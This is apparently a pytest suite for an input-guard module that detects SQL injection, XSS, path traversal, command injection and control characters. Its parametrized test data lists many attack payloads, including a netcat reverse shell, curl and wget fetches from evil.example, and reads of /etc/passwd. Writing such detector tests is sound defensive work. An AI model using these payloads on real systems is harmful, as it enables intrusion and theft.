"""The request guard's detectors: decoding, named attacks and look-alikes, every threat kind,
properties under hypothesis, and linear time on adversarial input."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import tradeguard.guard
from tradeguard.guard import InputVerdict, Threat, escape_html, sanitize_text, validate_input
from tradeguard.guard.normalize import decode


def kinds(value: str, field: str | None = None) -> frozenset[str]:
    return validate_input(value, field=field).kinds


@pytest.mark.parametrize(
    ("encoded", "decoded"),
    [
        ("%2e%2e%2f", "../"),
        ("%252e%252e%252f", "../"),
        ("%25252e", "."),
        ("%%32%65", "."),
        ("%c0%ae%c0%ae%c0%af", "../"),
        ("%e0%80%ae", "."),
        ("%f0%80%80%ae", "."),
        ("%f8%80%80%80%ae", "."),
        ("..%c1%9c", "..\\"),
        ("%u002e%u002e%u2215", "../"),
        ("%uff0e%uff0e%uff0f", "../"),
        ("&lt;script&gt;", "<script>"),
        ("&#x3c;img&#62", "<img>"),
        ("&#0000060;", "<"),
        ("&amp;lt;", "<"),
        ("%26lt%3B", "<"),
        ("\uff1c\uff53\uff43\uff52\uff49\uff50\uff54\uff1e", "<script>"),
        ("caf%C3%A9", "café"),
        ("caf%E9", "café"),
        ("100%", "100%"),
        ("%zz%4", "%zz%4"),
        ("AT&T", "AT&T"),
    ],
)
def test_decode_when_layered_encoding_then_peeled(encoded: str, decoded: str) -> None:
    assert decode(encoded) == decoded


def test_decode_when_more_layers_than_rounds_then_stops() -> None:
    assert decode("%252525252e") == "%252e"


def test_decode_when_escapes_exceed_budget_then_none() -> None:
    assert decode("%41" * 70_001) is None


@pytest.mark.parametrize(
    "value",
    [
        "1' or '1'='1",
        "admin'--",
        "admin' #",
        "1; DROP TABLE users",
        "' UNION SELECT null,null--",
        "1 AND SLEEP(5)",
        "1' AND BENCHMARK(5000000,MD5(1))#",
        "'||pg_sleep(5)--",
        "1 WAITFOR DELAY '0:0:5'--",
        "' AND extractvalue(1,concat(0x7e,version()))--",
        "' or 1=1--",
        '" or ""="',
        "') or ('a'='a",
        "-1 union select 1,2,concat_ws(0x3a,user(),database())--",
        "1/**/UnIoN/**/SeLeCt/**/1,2",
        "1 /*!50000union*/ /*!50000select*/ 1",
        "%27%20OR%201%3D1--",
        "&#39; OR 1=1--",
        "1' ORDER BY 3--+",
        "'; EXEC xp_cmdshell('dir')--",
        "1 and ascii(substring((select password from users),1,1))>64",
        "(case when 1=1 then 1 else 0 end)",
    ],
)
def test_sqli_when_attack_then_flagged(value: str) -> None:
    assert "sql_injection" in kinds(value)


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "L'Oréal",
        "D'Angelo and O'Neil",
        "please select a union representative",
        "drop me a line or call",
        "Select the best option and order by date",
        "Where is the order? It was due on 3/4",
        "Update: drop in price by 5%",
        "either 5 or 10 shares",
        "It's a 5\" screen",
        "rock 'n' roll",
        "1 UNION",
        "select x from y where",
    ],
)
def test_sqli_when_harmless_then_safe(value: str) -> None:
    assert validate_input(value) == InputVerdict(safe=True)


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x\tonerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<iframe src=//evil.example>",
        "<object data=x.swf>",
        "<embed src=x.swf>",
        "<base href=//evil.example/>",
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="java\x00script:alert(1)">x</a>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
        '<form action="javascript:alert(1)"><input type=submit>',
        "<button formaction=javascript:alert(1)>x",
        '<object data="data:text/html;base64,PHNjcmlwdD4=">',
        '<div style="width:expression(alert(1))">',
        '" autofocus onfocus="alert(1)',
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;img src=x onerror=alert(1)&gt;",
        "';alert(String.fromCharCode(88,83,83))//",
        "javascript:alert(document.domain)",
    ],
)
def test_xss_when_attack_then_flagged(value: str) -> None:
    assert "xss" in kinds(value)


@pytest.mark.parametrize(
    "value",
    ["a < b", "<3", "I <3 trading", "x<y>z", "price > 100 and volume < 5000", "Learn javascript"],
)
def test_xss_when_angle_brackets_as_math_then_safe(value: str) -> None:
    assert validate_input(value).safe


@pytest.mark.parametrize(
    "value",
    [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252fetc",
        "..%c0%af..%c0%afetc",
        "..%u2215..%u2215etc",
        "%u002e%u002e/etc",
        "..;/admin",
        "/etc/passwd",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "C:/Windows/System32/drivers/etc/hosts",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "\\\\attacker\\share\\x",
        "0x2e0x2e0x2fetc",
    ],
)
def test_traversal_when_attack_then_flagged_without_field(value: str) -> None:
    assert "path_traversal" in kinds(value)


@pytest.mark.parametrize(
    "value",
    ["docs/readme.txt", "https://example.com/a/b", "reports/2024/q1.csv", "EUR/USD", "Wait..."],
)
def test_traversal_when_relative_path_or_url_then_safe(value: str) -> None:
    assert validate_input(value).safe
    assert validate_input(value, field="file_path").safe


@pytest.mark.parametrize("value", ["/home/user/notes.txt", "~/notes", "..", "C:\\data", "CON"])
def test_traversal_when_path_field_then_stricter(value: str) -> None:
    assert validate_input(value, field="report_path").kinds == {"path_traversal"}
    assert validate_input(value, field="comment").safe


@pytest.mark.parametrize(
    "value",
    [
        "; cat /etc/passwd",
        "a;id",
        "| nc 10.0.0.1 4444 -e /bin/sh",
        "$(whoami)",
        "`id`",
        "&& curl http://evil.example/x.sh",
        "|| ping -c 10 127.0.0.1",
        ";${IFS}cat${IFS}/etc/passwd",
        "x\nwget http://evil.example",
        '<!--#exec cmd="ls"-->',
        "system('id')",
        "/bin/ls -al",
    ],
)
def test_cmdi_when_attack_then_flagged(value: str) -> None:
    assert "command_injection" in kinds(value)


@pytest.mark.parametrize(
    "value",
    [
        "Tom & Jerry",
        "R&D; Q&A",
        "fish & chips; cat food",
        "Name | ID | Date",
        "Sleep well; see you tomorrow",
        "https://example.com/?a=1&sort=desc&id=5",
    ],
)
def test_cmdi_when_harmless_shell_characters_then_safe(value: str) -> None:
    assert validate_input(value).safe


@pytest.mark.parametrize("value", ["a\x00b", "x\x1b[2J", "ab\x08\x08", "\x9b31m", "%00"])
def test_control_characters_when_harmful_then_flagged(value: str) -> None:
    assert "control_characters" in kinds(value)  # the full policy: tests/guard/test_controls.py


def test_control_characters_when_tab_newline_return_then_safe() -> None:
    assert validate_input("line one\r\nline\ttwo\n").safe


def test_validate_when_over_cap_then_refused_unread() -> None:
    verdict = validate_input("a" * 11, max_chars=10)
    assert verdict == InputVerdict(
        safe=False, threats=(Threat("size", "too_long", "11 characters; the limit is 10"),)
    )


def test_validate_when_too_many_marks_then_too_complex() -> None:
    verdict = validate_input("<" * 80_000, max_chars=100_000)
    assert [(t.kind, t.rule) for t in verdict.threats] == [("size", "too_complex")]


@pytest.mark.parametrize("value", [None, b"' or 1=1--", 42, ["x"], {"a": "b"}])
def test_validate_when_not_text_then_refused(value: object) -> None:
    verdict = validate_input(value)  # type: ignore[arg-type]
    assert not verdict.safe
    assert verdict.kinds == {"invalid_type"}


def test_validate_when_several_threats_then_each_named_without_echo() -> None:
    verdict = validate_input("x'; DROP TABLE zq_marker; cat /etc/passwd; <script>")
    assert verdict.kinds >= {"sql_injection", "xss", "path_traversal", "command_injection"}
    for threat in verdict.threats:
        assert threat.rule and threat.detail
        assert "zq_marker" not in threat.detail


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_validate_when_any_text_then_never_raises_and_deterministic(value: str) -> None:
    first = validate_input(value)
    assert first == validate_input(value)
    assert first.safe == (first.threats == ())


_NASTY = st.text(alphabet="'\"<>;|&`$%\\/()=#-*.:@ aonrsuelctidx0123456789\x00\t", max_size=80)


@settings(max_examples=200, deadline=None)
@given(_NASTY, st.sampled_from([None, "name", "file_path", "comment"]))
def test_validate_when_field_given_then_never_raises(value: str, field: str | None) -> None:
    assert isinstance(validate_input(value, field=field), InputVerdict)


MIB = 1 << 20
ADVERSARIAL = {
    "quotes": "'" * MIB,
    "tag openers": "<a" * (MIB // 2),
    "dot-dot-slash": "../" * (MIB // 3),
    "parentheses": "(" * MIB,
    "percent 25": "%25" * (MIB // 3),
    "entities": "&lt;" * (MIB // 4),
    "backslashes": "\\" * MIB,
    "comment openers": "/*" * (MIB // 2),
    "pipes": "|id" * (MIB // 3),
    "handlers": " onx=" * (MIB // 5),
    "sql words": "union select " * (MIB // 13),
    "tautologies": "' or 1=1 " * (MIB // 9),
    "mixed": "a'b\"c<d>e(f)g;h|i&j`k$l%m/n\\o" * (MIB // 30),
    "letters": "x" * MIB,
    "fullwidth": "\uff1c" * MIB,
    "nul": "\x00" * MIB,
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_validate_when_adversarial_mebibyte_then_fast(name: str) -> None:
    value = ADVERSARIAL[name]
    started = time.process_time()
    verdict = validate_input(value, max_chars=2 * MIB)
    elapsed = time.process_time() - started
    assert isinstance(verdict, InputVerdict)
    assert elapsed < 2.0, f"{name}: {elapsed:.2f} s"


def test_sanitize_text_when_controls_and_forms_then_normalised() -> None:
    raw = "\uff46\uff55\uff4c\uff4c\u00a0width\r\nline\x00\x1b[31m\ttab\x85\ud800"
    assert sanitize_text(raw) == "full width\nline[31m\ttab\ufffd"


def test_sanitize_text_when_long_then_capped() -> None:
    assert sanitize_text("a" * 5000) == "a" * 4096
    assert sanitize_text("abcdef", max_length=3) == "abc"


def test_sanitize_text_when_misused_then_raises() -> None:
    with pytest.raises(TypeError):
        sanitize_text(b"bytes")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="max_length"):
        sanitize_text("x", max_length=-1)


def test_escape_html_when_markup_then_every_special_escaped() -> None:
    assert escape_html("<a href=\"x\" title='y'>&</a>") == (
        "&lt;a href=&quot;x&quot; title=&#x27;y&#x27;&gt;&amp;&lt;/a&gt;"
    )


def test_guard_package_when_imported_then_exports_match_all() -> None:
    public = {name for name in vars(tradeguard.guard) if not name.startswith("_")}
    assert set(tradeguard.guard.__all__) <= public
    assert set(tradeguard.guard.__all__) == {
        "InputVerdict",
        "Threat",
        "escape_html",
        "sanitize_text",
        "validate_input",
    }
